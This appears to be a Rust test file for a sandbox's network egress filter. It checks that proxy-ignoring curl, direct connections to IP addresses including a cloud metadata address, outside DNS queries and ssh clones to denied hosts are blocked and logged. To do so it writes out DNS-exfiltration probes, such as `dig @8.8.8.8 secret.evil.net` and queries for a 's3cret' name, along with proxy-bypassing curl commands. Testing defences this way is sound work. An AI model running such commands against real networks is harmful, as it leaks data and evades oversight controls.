//! Programs that ignore proxy variables, and DNS (cases: no route out, seen and judged by the same
//! rules; no query for a denied name leaves).

use crate::sandbox::{Sandbox, hex};
use kotak_tests::net::{PUBLIC, world};
use serde_json::json;

#[test]
fn curl_without_proxies_is_seen_and_judged() {
    // egress case: a program that ignores proxy variables
    let good = world().name("good.ignores-one.net");
    let bad = world().name("bad.ignores-one.net");
    let sandbox = Sandbox::allowing(&[good]);
    for scheme in ["http", "https"] {
        let curl = |host: &str| sandbox.run(&format!("curl --noproxy '*' -fsS {scheme}://{host}/"));
        let allowed = curl(good);
        assert_eq!(
            allowed.stdout,
            format!("hello from {good}\n"),
            "{allowed:?}"
        );
        let denied = curl(bad);
        assert!(
            !denied.succeeded() && denied.stdout.is_empty(),
            "{denied:?}"
        );
    }
    let unset = sandbox.run(&format!(
        "unset http_proxy https_proxy all_proxy HTTP_PROXY HTTPS_PROXY ALL_PROXY; \
         curl -fsS https://{good}/ && ! curl -fsS https://{bad}/"
    ));
    assert!(unset.succeeded(), "{unset:?}");
    let log = sandbox.log();
    log.passed(&format!("{good}:80"));
    log.passed(&format!("{good}:443"));
    let of_bad = log
        .rows
        .iter()
        .filter(|row| row.target.starts_with(bad))
        .count();
    assert!(of_bad > 0, "its name was not seen: {log:#?}");
    assert_eq!(world().names.asked(bad), 0);
    assert!(world().sites.hits(bad).is_empty());
}

#[test]
fn an_address_has_no_route_out() {
    let sandbox = Sandbox::allowing(&["93.184.216.36"]);
    let mut driver = sandbox.driver();
    let mut reach = |address: &str, port: u16| {
        let request = hex(format!("GET / HTTP/1.0\r\nHost: {address}\r\n\r\n"));
        driver.ask(json!({ "op": "transparent", "name": address, "port": port, "hex": request }))
    };
    for (address, port) in [
        ("93.184.216.37", 80),
        ("93.184.216.37", 8080),
        ("10.1.2.3", 80),
        ("169.254.169.254", 80),
        ("2606:2800:220:1::34", 80),
        ("fd00::1", 80),
    ] {
        let answer = reach(address, port);
        let text = answer["answer"].as_str().unwrap_or_default();
        assert!(!text.contains("hello from"), "{address}:{port}: {answer}");
    }
    driver.end();
    assert!(world().sites.hits("93.184.216.37").is_empty());
    // The control: by the proxy, which knows the rule.
    let control = sandbox.run("curl -fsS http://93.184.216.36/");
    assert_eq!(control.stdout, "hello from 93.184.216.36\n", "{control:?}");
}

#[test]
fn no_query_for_a_denied_name_leaves() {
    // egress case: `dig @8.8.8.8 secret.evil.net` inside; a denied name
    let good = world().name("good.ignores-two.net");
    let sandbox = Sandbox::allowing(&[good]);
    let outcome = sandbox.run(
        "dig +tries=1 +time=2 @8.8.8.8 s3cret.ignores-two.net; \
         dig +tries=1 +time=2 @93.184.216.53 s3cret.ignores-two.net; \
         dig +tries=1 +time=2 +tcp @93.184.216.53 s3cret.ignores-two.net; \
         dig +tries=1 +time=2 s3cret.ignores-two.net; \
         dig +tries=1 +time=2 TXT s3cret.ignores-two.net; \
         getent ahosts s3cret.ignores-two.net; \
         curl -sS http://s3cret.ignores-two.net/; true",
    );
    assert!(outcome.succeeded(), "{outcome:?}");
    assert!(world().names.asked_with("s3cret").is_empty());
    // The controls: the same from the test's own namespace arrives, and an allowed name is
    // answered inside and resolved outside once it is dialled.
    let direct = std::process::Command::new("dig")
        .args([
            "+tries=1",
            "+time=5",
            "@93.184.216.53",
            "s3cret-control.ignores-two.net",
        ])
        .output()
        .expect("dig");
    assert!(direct.status.success());
    assert!(world().names.asked("s3cret-control.ignores-two.net") > 0);
    let answered = sandbox.run(&format!(
        "test -n \"$(dig +short +tries=1 +time=5 {good})\" && curl --noproxy '*' -fsS http://{good}/"
    ));
    assert_eq!(
        answered.stdout,
        format!("hello from {good}\n"),
        "{answered:?}"
    );
    assert!(world().names.asked(good) > 0);
    let log = sandbox.log();
    let seen = log
        .rows
        .iter()
        .any(|row| row.target.contains("s3cret.ignores-two.net"));
    assert!(seen, "the query was not seen: {log:#?}");
}

#[test]
fn an_answer_of_the_dns_inside_is_a_private_one_and_leads_to_the_name() {
    let good = world().name("pool.ignores-three.net");
    let sandbox = Sandbox::allowing(&[good]);
    let mut driver = sandbox.driver();
    let answer = driver.ask(json!({ "op": "dns", "name": good }));
    let addresses = answer["addresses"].as_array().cloned().unwrap_or_default();
    assert!(
        !addresses.is_empty() && !addresses.contains(&json!(PUBLIC)),
        "{answer}"
    );
    // To ask is not to resolve.
    assert_eq!(world().names.asked(good), 0);
    driver.end();
}

#[test]
fn ssh_without_a_proxy_command_is_judged_too() {
    let good = world().name("good.ignores-four.net");
    let bad = world().name("bad.ignores-four.net");
    let sandbox = Sandbox::allowing(&[good]);
    let clone = |host: &str| {
        let script = crate::clients::git_ssh(&sandbox.stage, host, "");
        sandbox.run(&format!("unset GIT_SSH_COMMAND; {script}"))
    };
    let allowed = clone(good);
    assert_eq!(allowed.stdout, kotak_tests::net::git::SAMPLE, "{allowed:?}");
    let denied = clone(bad);
    assert!(!denied.succeeded(), "{denied:?}");
    sandbox.log().passed(&format!("{good}:22"));
}
